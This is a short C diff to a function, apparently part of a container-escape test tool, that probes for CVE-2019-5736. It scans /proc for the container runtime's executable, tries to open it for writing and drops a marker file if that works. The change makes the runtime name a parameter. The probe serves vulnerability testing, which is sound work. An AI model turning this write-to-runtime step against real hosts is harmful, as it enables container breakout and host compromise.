@@ -234,10 +234,11 @@ static int try_mask(char *arg)
 }
 
 /* CVE-2019-5736: while commands are started in here, open the program that starts them for writing.
- * The argument is how long to look, in tenths of a second. */
+ * The argument is how long to look, in tenths of a second, and its name. */
 static int try_runtime_file(char *arg)
 {
 	unsigned long end = next_number(&arg) * 100;
+	const char *runtime = next_word(&arg);
 
 	for (unsigned long i = 0; i < end; i++) {
 		DIR *d = opendir("/proc");
@@ -250,7 +251,7 @@ static int try_runtime_file(char *arg)
 			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
 			n = readlink(path, target, sizeof(target) - 1);
 			target[n > 0 ? n : 0] = '\0';
-			if (strstr(target, "runc") && open(path, O_WRONLY | O_CLOEXEC) >= 0)
+			if (strstr(target, runtime) && open(path, O_WRONLY | O_CLOEXEC) >= 0)
 				return close(open("/tmp/got-runtime", O_CREAT | O_CLOEXEC, 0600));
 		}
 		if (d)
